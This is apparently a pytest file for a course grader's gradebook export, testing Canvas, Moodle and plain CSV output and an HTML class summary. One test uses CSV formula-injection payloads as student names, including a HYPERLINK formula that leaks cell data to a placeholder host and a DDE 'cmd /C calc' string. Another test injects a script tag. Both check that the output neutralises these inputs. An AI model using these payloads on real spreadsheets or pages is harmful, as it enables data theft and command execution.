"""Gradebook collection, CSV export and the class summary page (grader/report/gradebook.py)."""
import csv
import re

import numpy as np
import pytest

from grader.report import _html
from grader.report.gradebook import (GradebookError, add_missing, collect, frequent_diagnoses, pass_rates,
                                     read_roster, render_summary_html, safe_cell, score_histogram,
                                     validate_canvas_id, write_csv)
from grader.report.similarity import Pair

from .fixtures import assert_self_contained, make_results, write_batch


@pytest.fixture
def batch(tmp_path):
    out = write_batch(tmp_path / "OUT", {
        "s01": make_results("s01", "passing", name="Ada Lovelace", execution_time=3.0),
        "s02": make_results("s02", "failing", late={"days_late": 2, "penalty_fraction": 0.2},
                            execution_time=41.5),
        "s03": make_results("s03", "hidden", isolation="rlimits", execution_time=7.25),
        "s04": make_results("s04", "crashed", execution_time=0.4),
        "s05": make_results("s05", "failing", execution_time=12.0),
    })
    (out / "s06").mkdir()
    (out / "s06" / "results.json").write_text('{"score": 3, "tests": [', encoding="utf-8")
    (out / "s07").mkdir()                                  # grading never finished
    (out / "_work").mkdir()                                # scratch space is not a student
    (out / "_work" / "results.json").write_text("{}")
    return out


def test_collect_one_row_per_student_folder(batch):
    rows = collect(batch)
    assert [r["student"] for r in rows] == [f"s0{i}" for i in range(1, 8)]
    by = {r["student"]: r for r in rows}
    assert by["s01"]["score"] == 10 and by["s01"]["max_score"] == 10 and by["s01"]["name"] == "Ada Lovelace"
    assert by["s02"]["score"] == pytest.approx(4.0) and by["s02"]["late"]["raw_score"] == 5
    assert by["s04"]["status"] == "load_error" and "SyntaxError" in by["s04"]["reason"]
    assert by["s06"]["status"] == "unreadable" and "JSONDecodeError" in by["s06"]["reason"]
    assert by["s07"]["status"] == "unreadable" and by["s07"]["reason"] == "no results.json"
    assert by["s06"]["score"] is None
    assert by["s03"]["isolation"] == "rlimits"
    assert {d["code"] for d in by["s02"]["diagnoses"]} == {"border_padding", "no_learning"}
    with pytest.raises(ValueError, match="out_dir"):
        collect(batch / "nope")


def _read(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


ROSTER = ("student,name,sis_id,login_id,canvas_id,section,email,id_number\n"
          "s01,\"Lovelace, Ada\",A-001,ada,9001,Sec 1,ada@uni.edu,20231001\n"
          "s02,Boris,A-002,,,Sec 1,s02@uni.edu,20231002\n"
          "s03,Clara,,clara,,Sec 2,,20231003\n"
          "s04,Dmitri,A-004,,,,d@uni.edu,20231004\n"
          "s05,Eva,A-005,,,,e@uni.edu,20231005\n"
          "s06,Fyodor,A-006,,,,f@uni.edu,20231006\n"
          "s07,Galina,A-007,,,,g@uni.edu,20231007\n"
          "s08,Hugo (no submission),A-008,,,Sec 2,h@uni.edu,20231008\n")


@pytest.fixture
def roster(tmp_path):
    f = tmp_path / "roster.csv"
    f.write_text(ROSTER, encoding="utf-8")
    return read_roster(f)


def canvas_import_problems(table) -> list[str]:
    """Canvas's gradebook CSV import rules: the header starts with Student, ID, SIS User ID, SIS
    Login ID, Section; an assignment column is ``Name (numeric id)`` to fill an existing
    assignment (anything else becomes a new one); an optional ``Points Possible`` row; every
    student row is matched by ID, SIS User ID or SIS Login ID; a grade is a number or blank."""
    problems = []
    head = table[0]
    if head[:5] != ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]:
        problems.append(f"header {head[:5]}")
    for col in head[5:]:
        if not re.fullmatch(r".+ \(\d+\)", col):
            problems.append(f"column {col!r} would create a new assignment")
    body = table[1:]
    if body and body[0][0] == "Points Possible":
        body = body[1:]
    for row in body:
        if len(row) != len(head):
            problems.append(f"row length {row}")
        if not any(row[1:4]):
            problems.append(f"row {row[0]!r} matches no Canvas user")
        for cell in row[5:]:
            if cell and not re.fullmatch(r"\d+(\.\d+)?", cell):
                problems.append(f"grade {cell!r}")
    return problems


def moodle_import_problems(table, id_column="ID number") -> list[str]:
    """Moodle's CSV grade import: one identifier column mapped under "Identify user by" whose
    every value names an existing user (one unknown user aborts the import), unique; grades are
    numbers or blank."""
    head, body = table[0], table[1:]
    k = head.index(id_column)
    ids = [row[k] for row in body]
    problems = [f"empty {id_column} for {row[2]!r}" for row in body if not row[k]]
    if len(set(ids)) != len(ids):
        problems.append("duplicate ids")
    g = head.index("hw2-conv") if "hw2-conv" in head else 3
    problems += [f"grade {row[g]!r}" for row in body if row[g] and not re.fullmatch(r"\d+(\.\d+)?", row[g])]
    return problems


def test_canvas_csv(batch, roster, tmp_path):
    rows = collect(batch)
    table = _read(write_csv(rows, tmp_path / "canvas.csv", "canvas", roster=roster, canvas_assignment_id=4242))
    assert canvas_import_problems(table) == []
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "hw2-conv (4242)"]
    assert table[1] == ["Points Possible", "", "", "", "", "10"]
    assert table[2] == ["Lovelace, Ada", "9001", "A-001", "ada", "Sec 1", "10"]
    assert table[3] == ["Boris", "", "A-002", "", "Sec 1", "4"]
    assert table[4][:4] == ["Clara", "", "", "clara"]          # no SIS id in the roster: none made up
    assert table[5][-1] == "0"              # a load error is a graded zero
    assert table[7][-1] == ""               # unreadable: leave the grade alone
    assert table[9] == ["Hugo (no submission)", "", "A-008", "", "Sec 2", "0"]    # every roster student
    assert len(table) == 2 + 8
    blank = _read(write_csv(rows, tmp_path / "b.csv", "canvas", roster=roster, canvas_assignment_id="4242",
                            missing="blank"))
    assert blank[9][-1] == ""
    titled = _read(write_csv(rows, tmp_path / "c2.csv", "canvas", roster=roster, title="HW 2",
                             new_canvas_column=True))
    assert titled[0][-1] == "HW 2"


def test_canvas_needs_a_numeric_assignment_id_and_roster_ids(batch, roster, tmp_path):
    rows = collect(batch)
    with pytest.raises(GradebookError, match="canvas_assignment_id"):
        write_csv(rows, tmp_path / "c.csv", "canvas", roster=roster)
    for bad in ("abc", "12a", "-5", "1 2", True, "4242)"):
        with pytest.raises(GradebookError, match="numeric id"):
            write_csv(rows, tmp_path / "c.csv", "canvas", roster=roster, canvas_assignment_id=bad)
    assert validate_canvas_id(" 4242 ") == "4242"
    with pytest.raises(GradebookError) as exc:                   # no roster: no ids to match anyone by
        write_csv(rows, tmp_path / "c.csv", "canvas", canvas_assignment_id=1)
    assert exc.value.students == [f"s0{i}" for i in range(1, 8)]
    partial = {k: v for k, v in roster.items() if k != "s05"}
    with pytest.raises(GradebookError, match="s05") as exc:      # in OUT, not in the roster
        write_csv(rows, tmp_path / "c.csv", "canvas", roster=partial, canvas_assignment_id=1)
    assert exc.value.students == ["s05"]


def test_moodle_and_plain_csv(batch, roster, tmp_path):
    rows = collect(batch)
    table = _read(write_csv(rows, tmp_path / "m.csv", "moodle", roster=roster))
    assert moodle_import_problems(table) == []
    assert table[0] == ["ID number", "Email address", "Full name", "hw2-conv", "Late penalty (%)", "Feedback"]
    assert table[2] == ["20231002", "s02@uni.edu", "Boris", "4", "20", "late 2 day(s), -20% (raw 5)"]
    assert table[4][3] == "0" and "SyntaxError" in table[4][5]
    assert table[6][3] == "" and "JSONDecodeError" in table[6][5]
    assert table[8][:4] == ["20231008", "h@uni.edu", "Hugo (no submission)", "0"] and "no submission" in table[8][5]
    no_ids = {k: {**v, "id_number": "", "email": ""} if k in ("s03", "s06") else v for k, v in roster.items()}
    with pytest.raises(GradebookError, match="Moodle") as exc:   # refused with the list, nothing written
        write_csv(rows, tmp_path / "m2.csv", "moodle", roster=no_ids)
    assert exc.value.students == ["s03", "s06"] and not (tmp_path / "m2.csv").exists()
    plain = _read(write_csv(rows, tmp_path / "p.csv", "plain"))
    assert plain[0] == ["student", "name", "score", "max_score", "days_late", "penalty_fraction",
                        "raw_score", "status", "reason"]
    assert plain[2] == ["s02", "", "4", "10", "2", "0.2", "5", "ok", ""]
    assert len(plain) == 1 + 7                  # no roster: the folders only
    with pytest.raises(ValueError, match="fmt"):
        write_csv(rows, tmp_path / "x.csv", "blackboard")
    bad = tmp_path / "bad_roster.csv"
    bad.write_text("id,name\n1,x\n")
    with pytest.raises(ValueError, match="path"):
        read_roster(bad)


def test_no_csv_cell_is_a_formula(tmp_path):
    """A student-chosen name (from a Gradescope export or the roster) never becomes a formula."""
    evil = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\r=1+1"]
    out = write_batch(tmp_path / "OUT", {f"s{i}": make_results(f"s{i}", "passing", name=n) for i, n in enumerate(evil)})
    roster = {f"s{i}": {"student": f"s{i}", "name": n, "sis_id": f"A{i}", "id_number": n, "email": "",
                        "section": "=1+2"} for i, n in enumerate(evil)}
    rows = collect(out)
    for fmt in ("canvas", "moodle", "plain"):
        table = _read(write_csv(rows, tmp_path / f"{fmt}.csv", fmt, roster=roster, canvas_assignment_id=7))
        for row in table:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-\D|-\d+[+*/]", cell), \
                    (fmt, cell)
        assert any(c.startswith("'=HYPERLINK") for row in table for c in row)
    assert safe_cell("-1.5") == "-1.5" and safe_cell("Anna") == "Anna" and safe_cell(None) == ""


def test_missing_students_in_the_summary(batch, roster):
    rows = add_missing(collect(batch), roster, "zero")
    assert [r["student"] for r in rows if r["status"] == "missing"] == ["s08"]
    page = render_summary_html(rows)
    assert "Missing: roster students without a submission" in page and "missing: 1" in page
    assert "Submissions: 7 · graded: 5" in page             # a missing student is not a graded zero here
    assert "Сводка" in render_summary_html(rows, lang="ru")
    with pytest.raises(ValueError, match="missing"):
        add_missing(rows, roster, "skip")


def test_gradebook_cli_takes_the_canvas_id_from_convgrade_toml(batch, tmp_path, monkeypatch):
    from click.testing import CliRunner

    from grader.cli import main

    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    course = tmp_path / "course"
    course.mkdir()
    monkeypatch.chdir(course)
    runner = CliRunner()
    r = runner.invoke(main, ["gradebook", str(batch), "--roster", str(roster)])
    assert r.exit_code == 3 and "canvas-assignment-id" in r.output
    (course / "convgrade.toml").write_text('name = "CNN"\n[lms.canvas.assignments]\n\"hw2-conv\" = 51234\n')
    r = runner.invoke(main, ["gradebook", str(batch), "--roster", str(roster)])
    assert r.exit_code == 1, r.output             # written; exit 1 because two results are unreadable
    table = _read(batch / "gradebook-canvas.csv")
    assert table[0][-1] == "hw2-conv (51234)" and canvas_import_problems(table) == []
    r = runner.invoke(main, ["gradebook", str(batch), "--roster", str(roster), "--canvas-assignment-id", "x1"])
    assert r.exit_code == 3 and "numeric" in r.output
    r = runner.invoke(main, ["gradebook", str(batch), "--format", "moodle"])
    assert r.exit_code == 3 and "s01" in r.output and "roster" in r.output


def test_pass_rates_diagnoses_histogram(batch):
    rows = collect(batch)
    rates = pass_rates(rows)
    # loaded rows: s01 passing, s02/s05 failing (conv2d_forward, train_lenet), s03 hidden (backward)
    assert rates[0][:3] in (("conv2d_forward", 2, 4), ("train_lenet", 2, 4))
    assert [r[0] for r in rates[:2]] == ["conv2d_forward", "train_lenet"]
    assert rates[2] == ("conv2d_backward", 3, 4, 0.75)
    assert rates[-1] == ("maxpool2d_forward", 4, 4, 1.0)
    diags = frequent_diagnoses(rows)
    assert diags[0][0] in ("border_padding", "no_learning") and diags[0][2] == 2
    assert ("grad_not_summed", "dW looks like one sample's gradient, not the batch sum.", 1) in diags
    counts = score_histogram(rows)
    # scores in %: 100, 40, 70, 0, 50 (s06, s07 unreadable)
    expected = np.zeros(10, dtype=int)
    expected[[9, 4, 7, 0, 5]] = 1
    np.testing.assert_array_equal(counts, expected)


def test_summary_html(batch):
    rows = collect(batch)
    rows[3]["reason"] = "<script>alert(1)</script> crashed"
    pairs = [Pair("s02", "s05", 0.93, [((4, 20), (6, 22))], 40, 43, 45),
             {"a": "s01", "b": "s03", "score": 0.61, "regions": [[[1, 3], [2, 4]]]}]
    page = render_summary_html(rows, similarity_pairs=pairs)
    assert_self_contained(page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; crashed" in page
    assert "Class summary: hw2-conv" in page and "Submissions: 7 · graded: 5" in page
    # histogram: one bar per bin, drawn with height for the 5 non-empty bins
    bars = re.findall(r'<rect x="[\d.]+" y="[\d.]+" width="[\d.]+" height="([\d.]+)" fill="%s">'
                      % _html.rgb_hex(_html.BAR), page)
    assert len(bars) == 10 and sum(float(h) > 0 for h in bars) == 5
    # sections in order, with content
    order = [page.index(h) for h in ("Pass rate per check", "Most frequent diagnoses", "Slowest submissions",
                                     "Crashed or unreadable", "Isolation levels used", "Similar pairs")]
    assert order == sorted(order)
    slow = page[order[2]:order[3]]
    assert slow.index("s02") < slow.index("s05") < slow.index("s03")
    assert "41.5" in slow
    broken = page[order[3]:order[4]]
    assert all(s in broken for s in ("s04", "s06", "s07", "no results.json"))
    iso = page[order[4]:order[5]]
    assert re.search(r"bwrap</td><td class=\"num\">4<", iso) and re.search(r"rlimits</td><td class=\"num\">1<", iso)
    sim = page[order[5]:]
    assert "93%" in sim and "4–20 ↔ 6–22" in sim and "61%" in sim
    ru = render_summary_html(rows, lang="ru")
    assert "Сводка по группе" in ru and "Similar pairs" not in ru


def test_summary_of_empty_class():
    page = render_summary_html([])
    assert "Submissions: 0" in page and page.count("None.") >= 4


def test_roster_ids_match_the_safe_folder_names(tmp_path):
    """grade-batch files "Anna Ivanova" under OUT/Anna_Ivanova; the gradebook finds her roster
    row there and writes her roster id, not the folder name, into the LMS columns."""
    out = write_batch(tmp_path / "OUT", {"Anna_Ivanova": make_results("Anna_Ivanova", "passing"),
                                         "b.petrov@uni.edu": make_results("b.petrov@uni.edu", "failing")})
    roster_file = tmp_path / "roster.csv"
    roster_file.write_text("student,name,section\nAnna Ivanova,Анна Иванова,Sec 2\n"
                           "b.petrov@uni.edu,Boris Petrov,Sec 1\n", encoding="utf-8")
    roster = read_roster(roster_file)
    assert set(roster) == {"Anna_Ivanova", "b.petrov@uni.edu"}
    rows = collect(out)
    with pytest.raises(GradebookError):      # this roster has no LMS ids: nothing is made up
        write_csv(rows, tmp_path / "c.csv", "canvas", roster=roster, canvas_assignment_id=1)
    plain = _read(write_csv(rows, tmp_path / "p.csv", "plain", roster=roster))
    assert [r[:2] for r in plain[1:]] == [["Anna Ivanova", "Анна Иванова"], ["b.petrov@uni.edu", "Boris Petrov"]]
